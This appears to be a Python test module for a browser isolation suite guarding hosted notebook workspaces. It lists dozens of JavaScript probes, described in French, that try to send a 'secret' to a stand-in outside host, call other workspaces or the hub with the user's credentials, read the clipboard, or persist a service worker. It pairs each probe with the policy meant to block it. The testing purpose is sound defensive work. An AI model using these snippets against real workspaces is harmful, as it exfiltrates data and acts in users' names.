"""What a script in a page of a workspace tries, one sentence each, and what alone is enough to hold it.

The page's server is the attacker's own, which is more than a notebook's output could have.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from playwright.sync_api import Error

from tests.isolation.browser.world import World

Through = Callable[[World, Any], bool]
ADD = """
const add = (name, set, into = document.body) => {
    const made = Object.assign(document.createElement(name), set);
    into.append(made);
    return made;
};
const ended = made => new Promise(done => {
    made.onload = () => done("load");
    made.onerror = () => done("error");
    setTimeout(() => done("silence"), 800);
});
const page = code => `<script>${code}</scr` + "ipt>";
const told = promise => promise.then(found => `${found}`, error => `refus : ${error}`);
"""


@dataclass(frozen=True)
class Probe:
    """One attempt: in one sentence, as a script, how one sees that it got through, and what holds it."""

    tried: str
    script: str
    through: Through
    held_by: tuple[str, ...]

    @property
    def script_with_tools(self) -> str:
        """The script, after the few functions that all of them use."""
        return ADD + self.script


def arrives(word: str) -> Through:
    """Through when the host that is not ours heard it."""
    return lambda world, _: world.arrived(word)


def answers(word: str) -> Through:
    """Through when the script could say so."""
    return lambda _, result: word in str(result)


ALLOWLIST = "Connection-Allowlist"
PROBES = (
    # --- to a host that is not ours
    Probe("appeler un autre site par fetch", 'return await told(fetch(places.elsewhere + "fetch", {mode: "no-cors"}));',
          arrives("GET /fetch"), ("connect-src", ALLOWLIST)),
    Probe("appeler un autre site par XMLHttpRequest",
          '''const call = new XMLHttpRequest(); call.open("POST", places.elsewhere + "xhr");
             call.send("secret"); return 1;''',
          arrives("/xhr"), ("connect-src", ALLOWLIST)),
    Probe("envoyer une balise à un autre site", 'return navigator.sendBeacon(places.elsewhere + "balise", "secret");',
          arrives("POST /balise"), ("connect-src", ALLOWLIST)),
    Probe("ouvrir un websocket vers un autre site",
          'return await ended(Object.assign(new WebSocket(places.elsewhere.replace("http", "ws") + "ws"), {}));',
          arrives("GET /ws"), ("connect-src", ALLOWLIST)),
    Probe("écouter les évènements d'un autre site", 'new EventSource(places.elsewhere + "evenements"); return 1;',
          arrives("GET /evenements"), ("connect-src", ALLOWLIST)),
    Probe("appeler un autre site depuis un worker fait d'un blob",
          '''const code = `fetch("${places.elsewhere}blob", {mode: "no-cors"})`;
             new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"}))); return 1;''',
          arrives("GET /blob"), ("connect-src", ALLOWLIST)),
    Probe("appeler un autre site depuis un cadre écrit dans la page",
          '''add("iframe", {srcdoc: page(`fetch("${places.elsewhere}srcdoc", {mode: "no-cors"})`)}); return 1;''',
          arrives("GET /srcdoc"), ("connect-src", ALLOWLIST)),
    Probe("appeler un autre site depuis un cadre fait d'une adresse data:",
          '''const code = page(`fetch("${places.elsewhere}data", {mode: "no-cors"})`);
             add("iframe", {src: "data:text/html," + encodeURIComponent(code)}); return 1;''',
          arrives("GET /data"), ("connect-src", ALLOWLIST)),
    Probe("envoyer un formulaire à un autre site",
          'add("form", {action: places.elsewhere + "formulaire", method: "post"}).submit(); return 1;',
          arrives("POST /formulaire"), ("form-action", ALLOWLIST)),
    Probe("charger une image d'un autre site", 'return await ended(add("img", {src: places.elsewhere + "image"}));',
          arrives("GET /image"), ("default-src", ALLOWLIST)),
    Probe("charger un script d'un autre site", 'return await ended(add("script", {src: places.elsewhere + "script"}));',
          arrives("GET /script"), ("default-src", ALLOWLIST)),
    Probe("charger un style d'un autre site",
          'return await ended(add("link", {rel: "stylesheet", href: places.elsewhere + "style"}));',
          arrives("GET /style"), ("default-src", ALLOWLIST)),
    Probe("charger une police d'un autre site",
          '''return await told(new FontFace("x", `url(${places.elsewhere}police)`).load());''',
          arrives("GET /police"), ("default-src", ALLOWLIST)),
    Probe("charger une vidéo d'un autre site",
          'add("video", {src: places.elsewhere + "video", preload: "auto"}); return 1;',
          arrives("GET /video"), ("default-src", ALLOWLIST)),
    Probe("charger un objet d'un autre site", 'add("object", {data: places.elsewhere + "objet"}); return 1;',
          arrives("GET /objet"), ("object-src", "default-src", ALLOWLIST)),
    Probe("montrer un autre site dans un cadre", 'add("iframe", {src: places.elsewhere + "cadre"}); return 1;',
          arrives("GET /cadre"), ("default-src", ALLOWLIST)),
    Probe("précharger une page d'un autre site",
          'return await ended(add("link", {rel: "prefetch", href: places.elsewhere + "precharge"}));',
          arrives("GET /precharge"), ("default-src", ALLOWLIST)),
    Probe("faire deviner au navigateur la prochaine page, sur un autre site",
          '''const rules = {prefetch: [{source: "list", urls: [places.safe + "devine"], eagerness: "immediate"}]};
             add("script", {type: "speculationrules", textContent: JSON.stringify(rules)}); return 1;''',
          arrives("GET /devine"), (ALLOWLIST,)),
    Probe("changer l'adresse de base pour celle d'un autre site, puis charger un script d'à côté",
          'add("base", {href: places.elsewhere}, document.head); return document.baseURI;',
          lambda world, result: str(result).startswith("http://ailleurs"), ("base-uri",)),
    Probe("mener l'onglet vers un autre site, avec un secret dans l'adresse",
          'location.href = places.elsewhere + "parti?secret"; return 1;', arrives("GET /parti?secret"), (ALLOWLIST,)),
    Probe("mener l'onglet ailleurs par une page qui se recharge",
          '''const content = `0;url=${places.elsewhere}parti`;
             add("meta", {httpEquiv: "refresh", content}, document.head); return 1;''',
          arrives("GET /parti"), (ALLOWLIST,)),
    Probe("suivre un lien vers un autre site", 'add("a", {href: places.elsewhere + "lien"}).click(); return 1;',
          arrives("GET /lien"), (ALLOWLIST,)),
    Probe("parler à une machine par WebRTC",
          '''const link = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${places.port}`}]});
             link.createDataChannel("x");
             return await told(link.createOffer().then(offer => link.setLocalDescription(offer)));''',
          arrives("packet"), (ALLOWLIST,)),
    # --- windows and files
    Probe("ouvrir une fenêtre sur un autre site", 'return String(window.open(places.elsewhere + "fenetre"));',
          lambda world, _: bool(world.windows), ("bac à sable : fenêtres",)),
    Probe("ouvrir une fenêtre vide et y écrire", 'return String(window.open("about:blank"));',
          lambda world, _: bool(world.windows), ("bac à sable : fenêtres",)),
    Probe("suivre un lien dans un autre onglet",
          'add("a", {href: places.elsewhere + "onglet", target: "_blank"}).click(); return 1;',
          lambda world, _: bool(world.windows), ("bac à sable : fenêtres",)),
    Probe("télécharger un tableau fait d'une adresse data:",
          'add("a", {href: "data:text/csv,a;b", download: "donnees.csv"}).click(); return 1;',
          lambda world, _: bool(world.downloads), ("bac à sable : téléchargements",)),
    Probe("télécharger un tableau fait d'un blob",
          '''const made = URL.createObjectURL(new Blob(["a;b"], {type: "text/csv"}));
             add("a", {href: made, download: "donnees.csv"}).click(); return 1;''',
          lambda world, _: bool(world.downloads), ("bac à sable : téléchargements",)),
    Probe("télécharger une page de l'espace de travail",
          'add("a", {href: places.own + "lab", download: "donnees.csv"}).click(); return 1;',
          lambda world, _: bool(world.downloads), ("bac à sable : téléchargements",)),
    Probe("faire télécharger au navigateur une réponse jointe, ouverte depuis la barre d'adresse",
          'return "fichier";', lambda world, _: saved(world, "lab/tree/fichier"), ("réponses",)),
    Probe("faire télécharger au navigateur une réponse d'un type qu'il ne montre pas",
          'return "table";', lambda world, _: saved(world, "lab/tree/table"), ("réponses",)),
    Probe("prendre un fichier entier à l'adresse des fichiers",
          'return await told(fetch(places.own + "files/donnees.parquet").then(answer => answer.status));',
          answers("200"), ("adresses",)),
    Probe("prendre un fichier en base64 à l'adresse des contenus",
          '''const to = places.own + "api/contents/a.parquet?format=base64&content=1";
             return await told(fetch(to).then(answer => answer.status));''',
          answers("200"), ("porte",)),
    # --- answers that would void what the front adds
    Probe("donner une page après une réponse provisoire, pour qu'elle n'ait aucune politique",
          'return "interim";', lambda world, _: bare(world, "lab/tree/interim"), ("réponses",)),
    Probe("donner une page sans ligne d'état, pour qu'elle n'ait aucun en-tête",
          'return "nu";', lambda world, _: bare(world, "lab/tree/nu"), ("réponses",)),
    # --- to other workspaces and to the hub
    Probe("appeler un autre espace de travail au nom de la personne",
          'return await told(fetch(places.other + "api/me", {mode: "no-cors", credentials: "include"}));',
          lambda world, _: world.asked(world.around.other, "api/me"),
          ("connect-src", ALLOWLIST, "origine des demandes")),
    Probe("charger une image d'un autre espace de travail",
          'return await ended(add("img", {src: places.other + "kernelspecs/python3/logo.svg"}));',
          lambda world, _: world.asked(world.around.other, "kernelspecs"),
          ("default-src", ALLOWLIST, "origine des demandes")),
    Probe("montrer un autre espace de travail dans un cadre",
          'return await ended(add("iframe", {src: places.other + "lab"}));',
          lambda world, _: world.asked(world.around.other, "lab"), ("default-src", ALLOWLIST, "origine des demandes")),
    Probe("voir un autre espace de travail dans un cadre",
          'return await ended(add("iframe", {src: places.other + "lab"}));',
          lambda world, _: framed(world), ("default-src", ALLOWLIST, "origine des demandes", "frame-ancestors")),
    Probe("apprendre si un autre espace de travail répond",
          'return await told(fetch(places.other + "api/me", {mode: "no-cors"}).then(() => "il répond"));',
          answers("il répond"), ("connect-src", ALLOWLIST, "Cross-Origin-Resource-Policy")),
    Probe("ouvrir un websocket vers un noyau d'un autre espace de travail",
          '''const kernel = "api/kernels/0c3c6a1b-ca90-4344-9202-f64bbd188819/channels";
             return await ended(new WebSocket(places.other.replace("http", "ws") + kernel));''',
          lambda world, _: world.asked(world.around.other, "channels"),
          ("connect-src", ALLOWLIST, "origine des websockets")),
    Probe("appeler le hub au nom de la personne",
          '''const how = {method: "POST", mode: "no-cors", credentials: "include"};
             return await told(fetch(places.hub + "espace/x/arret", how));''',
          lambda world, _: world.asked(world.around.hub, "arret"), ("connect-src",)),
    Probe("envoyer un formulaire au hub au nom de la personne",
          'add("form", {action: places.hub + "espace/x/arret", method: "post"}).submit(); return 1;',
          lambda world, _: world.asked(world.around.hub, "arret"), ("form-action",)),
    # --- what would outlive the page, or reach the machine
    Probe("installer un service worker qui survit à la page",
          '''const worker = places.own + "static/lab/reste.js";
             return await told(navigator.serviceWorker.register(worker).then(() => "installé"));''',
          answers("installé"), ("service workers",)),
    Probe("lire le presse-papiers de la personne",
          'return await told(navigator.clipboard.readText().then(() => "lu"));', answers("lu"),
          ("Permissions-Policy",)),
    Probe("écrire dans le presse-papiers sans geste de la personne",
          'return await told(navigator.clipboard.writeText("secret").then(() => "écrit"));', answers("écrit"),
          ("Permissions-Policy",)),
    Probe("demander la position de la machine",
          '''return await new Promise(done => navigator.geolocation.getCurrentPosition(() => done("position"),
             error => done(error.code === 1 ? "refus" : "position"), {timeout: 700}));''',
          answers("position"), ("Permissions-Policy",)),
    Probe("demander l'écran, la caméra, le micro, un port USB, série ou HID",
          '''const wanted = ["display-capture", "camera", "microphone", "usb", "serial", "hid"];
             return wanted.filter(name => document.featurePolicy.allowsFeature(name)).join() || "refus";''',
          answers("usb"), ("Permissions-Policy",)),
)  # fmt: skip


def saved(world: World, path: str) -> bool:
    """Whether an address that a person opens is saved as a file."""
    try:
        world.page.goto(f"{world.own}/user/abcd/impots/{path}", wait_until="commit")
    except Error as error:  # how Playwright says that a navigation became a download, or was refused
        return "Download is starting" in str(error) or bool(world.downloads)
    return bool(world.downloads)


def framed(world: World) -> bool:
    """Whether another workspace's page is shown within this one."""
    for frame in world.page.frames[1:]:
        try:
            if frame.locator("#p").inner_text(timeout=200) == "page":
                return True
        except Error:  # a frame that shows an error has no such text
            continue
    return False


def bare(world: World, path: str) -> bool:
    """Whether a page that a person opens may call a host that is not ours."""
    try:
        world.page.goto(f"{world.own}/user/abcd/impots/{path}", wait_until="commit")
        world.page.evaluate(
            "async to => { await fetch(to, {mode: 'no-cors'}).catch(() => 0); }", world.places()["safe"] + "nu"
        )
    except Error:  # a page that the browser does not show calls nobody
        return False
    return world.arrived("GET /nu")
